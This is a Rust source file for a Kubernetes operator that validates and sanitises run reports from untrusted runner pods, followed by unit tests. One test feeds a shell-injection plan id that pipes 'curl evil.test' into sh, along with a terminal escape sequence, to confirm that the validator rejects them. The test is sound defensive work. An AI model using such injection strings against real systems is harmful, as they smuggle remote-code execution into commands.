//! Validates run reports (rule 12). Module code can use the token of the runner, so a report may contain any bytes.

use alustan_api::change_set::ChangeSet;
use alustan_api::report::{
    Failure, MAX_REGISTRY_HOSTS, MAX_TEXT, MAX_UNDECLARED, PlanAsks, RunReport, RunResult,
    StepTimes, Undeclared,
};
use alustan_api::run::{
    Claim, Lineage, MAX_SLOTS, OwnBackend, RunKind, RunPhase, RunProgress, RunRecord, RunSpec,
    StateLock,
};
use alustan_api::{Engine, Reason};
use k8s_openapi::jiff::Timestamp;
use serde::Serialize;

use crate::model::facts::open_run;
use crate::observed::ReportedProgress;

/// First protocol version in which runners write a separate report Secret.
const OWN_REPORT: u32 = 5;
/// Maximum size of a name or digest, in bytes.
const MAX_NAME: usize = 256;
/// Maximum size of a state address, in bytes.
const MAX_ADDRESS: usize = 2_048;
/// Maximum size of a resource address in a module, in bytes.
const MAX_RESOURCE: usize = 512;
/// Maximum size of the name of a variable, in bytes.
const MAX_VARIABLE: usize = 128;
/// Maximum size of a plan id, in bytes. `spec.approval.plan` has the same limit.
const MAX_ID: usize = 64;
/// Maximum number of reasons why a plan needs approval. All of them are in one condition message of at most 32 KiB.
const MAX_APPROVAL_REASONS: usize = 24;
/// Maximum size of one reason why a plan needs approval, in bytes.
const MAX_APPROVAL_REASON: usize = 512;
/// Maximum size of a backend configuration, in bytes of JSON.
const MAX_BACKEND: usize = 64 << 10;
/// Maximum number of managed objects in a report. A managed state has at most 256 MiB, so the number is larger than any real one.
pub const MAX_INVENTORY: i64 = 10_000_000;
/// Maximum duration of a step, in milliseconds: 400 days.
const MAX_STEP: u64 = 400 * 24 * 3_600_000;
/// Maximum size of a failure message, in bytes.
pub(crate) const MAX_MESSAGE: usize = 4 * MAX_TEXT;
/// Length of the prefix that a Job name shares with the names of its pods, in bytes. Kubernetes truncates longer Job names in pod names.
const MAX_PREFIX: usize = 57;
/// Replaces a reported pod name that is not the name of a pod of the run.
const UNKNOWN_POD: &str = "an unknown pod";
/// Known plan actions.
pub(super) const ACTIONS: [&str; 6] = ["create", "update", "replace", "delete", "forget", "import"];

/// Whether the runner of `run` writes a report Secret. Before protocol 5, runners wrote to the run record.
pub fn has_own_report(run: &RunSpec) -> bool {
    run.protocol >= OWN_REPORT
}

/// Merges `reported`, the progress of the current run in the run report, into run record `record` after validation. `has_job`: whether the
/// Job of the run exists. Without the Job, the progress may still be of an earlier run, because the operator resets the progress only
/// before it creates the Job.
///
/// If the Job exists or a pod has claimed the run, and the progress is missing, unparsable or of another run, the run is assumed to be
/// applying. A run that began to apply according to the record stays in phase `Applying` until its report arrives, even if later progress
/// shows an earlier phase. The final progress decides whether the run began to apply: it may show that the engine did not start.
pub fn merge_progress(record: &RunRecord, reported: &ReportedProgress, has_job: bool) -> RunRecord {
    let Some(run) = open_run(record).filter(|run| has_own_report(run)) else {
        return record.clone();
    };
    let before_run = RunRecord {
        begun: record.begun_before,
        attempted: record.attempted_before,
        ..record.clone()
    };
    let has_not_started = !has_job && record.claimed_by.is_none();
    match reported {
        ReportedProgress::Progress(reported) if is_of_run(reported, record.number, run) => {
            merge_reported(before_run, run, reported, has_begun(record))
        }
        ReportedProgress::Progress(reported)
            if reported.number <= record.number && has_not_started =>
        {
            not_started(before_run)
        }
        ReportedProgress::Absent if has_not_started => not_started(before_run),
        ReportedProgress::Absent | ReportedProgress::Unreadable | ReportedProgress::Progress(_) => {
            assume_applying(before_run, run)
        }
    }
}

fn is_of_run(reported: &RunProgress, number: i64, run: &RunSpec) -> bool {
    reported.number == number && reported.trace_id == run.trace_id
}

/// Whether a pod of the current run of `record` has reported that the run began to apply. A claim without a pod uid is a placeholder of the
/// operator, and proves nothing.
fn has_begun(record: &RunRecord) -> bool {
    let claim = record.claimed_by.as_ref();
    record.begun == record.number && claim.is_some_and(|claim| !claim.pod_uid.is_empty())
}

/// Returns `record` without a claim and in phase `Starting`, for a run whose Job does not exist yet.
fn not_started(record: RunRecord) -> RunRecord {
    RunRecord {
        phase: RunPhase::Starting,
        claimed_by: None,
        cancel: false,
        lock: None,
        ..record
    }
}

/// Returns the record of a run whose phase is unknown: the run is assumed to be applying.
fn assume_applying(record: RunRecord, run: &RunSpec) -> RunRecord {
    let claimed_by = Some(unknown_pod(run));
    begun(
        RunRecord {
            phase: RunPhase::Applying,
            claimed_by,
            cancel: false,
            ..record
        },
        run,
    )
}

fn merge_reported(
    recorded: RunRecord,
    run: &RunSpec,
    reported: &RunProgress,
    has_begun: bool,
) -> RunRecord {
    let phase = match reported.phase.min(RunPhase::Reported) {
        RunPhase::Starting | RunPhase::Planning if has_begun => RunPhase::Applying,
        phase => phase,
    };
    let began = reported.began || phase == RunPhase::Applying;
    let claimed_by = reported
        .claimed_by
        .as_ref()
        .map(|reported_claim| claim(reported_claim, run));
    let claimed_by = claimed_by.or_else(|| (phase > RunPhase::Starting).then(|| unknown_pod(run)));
    let is_accepted = reported.own_backend.as_ref().is_none_or(is_bounded);
    let lineage = match &reported.lineage {
        Lineage::Of(lineage) => Lineage::Of(truncate(lineage, MAX_NAME)),
        lineage_state => lineage_state.clone(),
    };
    let record = RunRecord {
        phase,
        claimed_by,
        cancel: recorded.cancel && reported.cancel,
        lock: reported.lock.as_ref().map(lock),
        slots_wanted: recorded
            .slots_wanted
            .max(reported.slots_wanted.min(MAX_SLOTS)),
        lineage,
        state_address: reported.state_address.as_deref().map(address),
        own_backend: if is_accepted {
            reported.own_backend.clone()
        } else {
            recorded.own_backend.clone()
        },
        ..recorded
    };
    if began { begun(record, run) } else { record }
}

/// Returns `record` after `run` reached [`RunPhase::Applying`].
fn begun(record: RunRecord, run: &RunSpec) -> RunRecord {
    let number = record.number;
    RunRecord {
        begun: number,
        attempted: if run.kind == RunKind::Apply {
            number
        } else {
            record.attempted
        },
        ..record
    }
}

fn unknown_pod(run: &RunSpec) -> Claim {
    Claim {
        pod_uid: String::new(),
        pod: UNKNOWN_POD.to_owned(),
        at: run.started_at,
    }
}

fn claim(reported: &Claim, run: &RunSpec) -> Claim {
    Claim {
        pod_uid: truncate(&reported.pod_uid, MAX_NAME),
        pod: if is_pod_of(&reported.pod, &run.job) {
            truncate(&reported.pod, MAX_NAME)
        } else {
            UNKNOWN_POD.to_owned()
        },
        at: reported.at.max(run.started_at),
    }
}

/// Whether `pod` may be the name of a pod of `job`: the name of the Job, or its first 57 bytes, then one character and an alphanumeric
/// suffix. The next run releases locks of this pod, so the name must not be that of a pod of another resource.
fn is_pod_of(pod: &str, job: &str) -> bool {
    let (prefix, _) = job.split_at(job.floor_char_boundary(MAX_PREFIX));
    let suffix = pod.strip_prefix(prefix).and_then(|rest| rest.get(1..));
    suffix.is_some_and(|suffix| {
        !suffix.is_empty() && suffix.bytes().all(|byte| byte.is_ascii_alphanumeric())
    })
}

fn lock(reported: &StateLock) -> StateLock {
    StateLock {
        id: truncate(&reported.id, MAX_NAME),
        operation: truncate(&reported.operation, MAX_NAME),
        who: truncate(&reported.who, MAX_NAME),
        at: reported.at,
    }
}

fn is_bounded(backend: &OwnBackend) -> bool {
    json_size(backend) <= MAX_BACKEND
}

/// Returns the size of `value` as JSON, in bytes.
pub(crate) fn json_size(value: &impl Serialize) -> usize {
    serde_json::to_vec(value).map_or(usize::MAX, |json| json.len())
}

/// Validates a report of `run`: truncates texts, replaces unknown reasons, removes changes with unknown actions, clamps times to the
/// lifetime of the run until `now`. Removes the failure of a cancelled run.
pub fn report(reported: RunReport, run: &RunSpec, now: Timestamp) -> RunReport {
    let end = now.max(run.started_at);
    let started_at = reported.started_at.clamp(run.started_at, end);
    RunReport {
        kind: run.kind,
        trigger: run.trigger.to_string(),
        job: run.job.clone(),
        changes: reported.changes.as_ref().map(changes),
        asks: reported.asks.and_then(asks),
        lineage: reported.lineage.map(|lineage| truncate(&lineage, MAX_NAME)),
        lock: reported.lock.as_ref().map(lock),
        failure: reported
            .failure
            .filter(|_| reported.result != RunResult::Cancelled)
            .map(failure),
        state_address: reported.state_address.as_deref().map(address),
        moved_from: reported.moved_from.as_deref().map(address),
        engine: reported.engine.as_ref().map(engine),
        inventory: reported
            .inventory
            .map(|count| count.clamp(0, MAX_INVENTORY)),
        undeclared: reported
            .undeclared
            .iter()
            .take(MAX_UNDECLARED)
            .map(undeclared)
            .collect(),
        registry_hosts: reported.registry_hosts.map(registry_hosts),
        took: StepTimes {
            init: reported.took.init.map(|millis| millis.min(MAX_STEP)),
            plan: reported.took.plan.map(|millis| millis.min(MAX_STEP)),
            apply: reported.took.apply.map(|millis| millis.min(MAX_STEP)),
        },
        started_at,
        finished_at: reported.finished_at.clamp(started_at, end),
        ..reported
    }
}

/// Returns the failure of a run with an impossible result in `report`: changes without a plan to approve, or a cancellation that
/// according to `record` was not requested. The failure uses the retry budget. Without a failure, the operator would start the same run again and again
/// without backoff.
pub(crate) fn contradiction(report: &RunReport, record: &RunRecord) -> Option<Failure> {
    let reason = report.failure.as_ref().map(|failure| &failure.reason);
    let is_by_user = reason.is_some_and(|reason| *reason == Reason::RunCancelled);
    let claim = match report.result {
        RunResult::Changes if report.kind != RunKind::Drift && report.asks.is_none() => {
            "changes without a plan to approve"
        }
        RunResult::Cancelled if !record.cancel => {
            "a cancellation that the operator did not request"
        }
        _ if is_by_user => "a cancellation by a user",
        RunResult::Changes
        | RunResult::Cancelled
        | RunResult::NoChanges
        | RunResult::Done
        | RunResult::Failed => return None,
    };
    Some(Failure::module(
        Reason::ReportInvalid,
        format!(
            "run {} ({}) reported {claim}: code of the module or of a provider may have written its report",
            report.number, report.kind
        ),
    ))
}

/// Validates an engine: truncates its version.
pub(crate) fn engine(reported: &Engine) -> Engine {
    Engine {
        version: truncate(&reported.version, MAX_NAME),
        ..*reported
    }
}

/// Validates the approval request of a plan. `None` if the id is not hexadecimal, because messages embed the id in shell commands.
fn asks(reported: PlanAsks) -> Option<PlanAsks> {
    let is_hexadecimal = reported.id.bytes().all(|byte| byte.is_ascii_hexdigit());
    (is_hexadecimal && (1..=MAX_ID).contains(&reported.id.len())).then(|| PlanAsks {
        id: reported.id,
        because: reported
            .because
            .iter()
            .take(MAX_APPROVAL_REASONS)
            .map(|reason| truncate(reason, MAX_APPROVAL_REASON))
            .collect(),
    })
}

fn undeclared(reported: &Undeclared) -> Undeclared {
    Undeclared {
        name: truncate(&reported.name, MAX_VARIABLE),
        similar: reported
            .similar
            .as_deref()
            .map(|name| truncate(name, MAX_VARIABLE)),
    }
}

/// Validates the hosts of registries. Messages contain only hosts of the spec.
fn registry_hosts(mut reported: Vec<String>) -> Vec<String> {
    reported.truncate(MAX_REGISTRY_HOSTS);
    reported.retain(|host| host.len() <= MAX_NAME);
    reported
}

fn changes(reported: &ChangeSet) -> ChangeSet {
    let mut reported = reported.summary();
    reported
        .resources
        .retain(|resource| ACTIONS.contains(&resource.action.as_str()));
    for resource in &mut reported.resources {
        resource.address = truncate(&resource.address, MAX_RESOURCE);
    }
    ChangeSet {
        add: reported.add.max(0),
        change: reported.change.max(0),
        destroy: reported.destroy.max(0),
        digest: truncate(&reported.digest, MAX_NAME),
        shape: truncate(&reported.shape, MAX_NAME),
        ..reported
    }
}

/// Validates a failure: replaces an unknown reason by [`Reason::Failed`], and truncates the message. The message may contain output of the
/// module.
pub fn failure(mut reported: Failure) -> Failure {
    let reason = Reason::from_stored(&reported.reason).unwrap_or(Reason::Failed);
    reported.reason = reason.into();
    reported.message = truncate(&reported.message, MAX_MESSAGE);
    reported
}

fn address(reported: &str) -> String {
    truncate(reported, MAX_ADDRESS)
}

/// Truncates `text` to at most `limit` bytes. Replaces control characters by spaces, because each control character takes six bytes in
/// JSON.
pub(crate) fn truncate(text: &str, limit: usize) -> String {
    let is_control = |c: char| c.is_control() && !matches!(c, '\n' | '\t');
    text.get(..text.floor_char_boundary(limit))
        .unwrap_or_default()
        .replace(is_control, " ")
}

#[cfg(test)]
mod tests {
    use alustan_api::names;
    use alustan_api::report::RunResult;
    use serde_json::json;

    use super::*;

    fn run() -> RunSpec {
        serde_json::from_value(json!({
            "kind": RunKind::Apply, "trigger": "created", "job": "web-apply-7", "image": "i",
            "tag": "t", "configHash": "c", "traceId": "abc", "protocol": 5,
            "startedAt": "2026-01-01T00:00:00Z", "revision": null, "context": null,
        }))
        .unwrap()
    }

    fn record() -> RunRecord {
        RunRecord {
            number: 7,
            run: Some(run()),
            attempted: 5,
            attempted_before: 5,
            begun: 6,
            begun_before: 6,
            ..RunRecord::default()
        }
    }

    fn reported(number: i64, phase: RunPhase) -> ReportedProgress {
        let run = run();
        ReportedProgress::Progress(Box::new(RunProgress {
            number,
            phase,
            claimed_by: Some(Claim {
                pod_uid: "uid".to_owned(),
                pod: "web-apply-7-abcde".to_owned(),
                at: run.started_at,
            }),
            trace_id: run.trace_id,
            ..RunProgress::default()
        }))
    }

    /// Returns the phase, the number of the last run that began to apply or destroy, and the number of the last apply that began.
    fn progress(record: &RunRecord) -> (RunPhase, i64, i64) {
        (record.phase, record.begun, record.attempted)
    }

    #[test]
    fn begun_run_stays_begun_until_it_reports() {
        let applying = merge_progress(&record(), &reported(7, RunPhase::Applying), true);
        for phase in [RunPhase::Starting, RunPhase::Planning] {
            let merged = merge_progress(&applying, &reported(7, phase), true);
            assert_eq!(progress(&merged), (RunPhase::Applying, 7, 7));
        }
        let finished = merge_progress(&applying, &reported(7, RunPhase::Reported), true);
        assert_eq!(progress(&finished), (RunPhase::Reported, 6, 5));
    }

    #[test]
    fn claimed_run_without_report_and_job_may_apply() {
        let claimed_record = merge_progress(&record(), &reported(7, RunPhase::Planning), true);
        assert_eq!(progress(&claimed_record), (RunPhase::Planning, 6, 5));
        for reported in [ReportedProgress::Absent, reported(6, RunPhase::Reported)] {
            let merged = merge_progress(&claimed_record, &reported, false);
            assert_eq!(progress(&merged), (RunPhase::Applying, 7, 7));
            let unclaimed = merge_progress(&record(), &reported, false);
            assert_eq!(progress(&unclaimed), (RunPhase::Starting, 6, 5));
        }
    }

    #[test]
    fn claim_names_only_pods_of_its_job() {
        let long = names::run_job(&"n".repeat(50), RunKind::Apply, 1_234_567);
        let long_pod = format!("{}abcde", &long[..58]);
        for (job, pod, is_kept) in [
            ("web-apply-7", "web-apply-7-abcde", true),
            (&*long, &*long_pod, true),
            ("web-apply-7", "web-apply-7", false),
            ("web-apply-7", "web-apply-7-", false),
            ("web-apply-7", "web-apply-7-apply-1-abcde", false),
            ("web-apply-7", "api-apply-7-abcde", false),
            ("web-apply-7", "web-apply-7-abcde\n", false),
        ] {
            let run = RunSpec {
                job: job.to_owned(),
                ..run()
            };
            let reported = Claim {
                pod_uid: "uid".to_owned(),
                pod: pod.to_owned(),
                at: run.started_at,
            };
            let expected = if is_kept { pod } else { UNKNOWN_POD };
            assert_eq!(claim(&reported, &run).pod, expected, "{pod}");
        }
    }

    #[test]
    fn approval_request_requires_hexadecimal_plan_id() {
        let run = run();
        let ids = [
            ("0f3c9a51b2e4d870".to_owned(), true),
            ("a".repeat(64), true),
            ("a".repeat(65), false),
            (String::new(), false),
            ("a'; curl evil.test | sh; '".to_owned(), false),
            ("a\u{1b}[2K".to_owned(), false),
        ];
        for (id, is_kept) in ids {
            let reported: RunReport = serde_json::from_value(json!({
                "number": 7, "kind": RunKind::Apply, "result": RunResult::Changes,
                "asks": {"id": id, "because": vec!["x".repeat(600); 30]},
                "startedAt": run.started_at, "finishedAt": run.started_at,
            }))
            .unwrap();
            let expected = PlanAsks {
                id,
                because: vec!["x".repeat(512); 24],
            };
            let asks = report(reported, &run, run.started_at).asks;
            assert_eq!(asks, is_kept.then_some(expected));
        }
    }
}
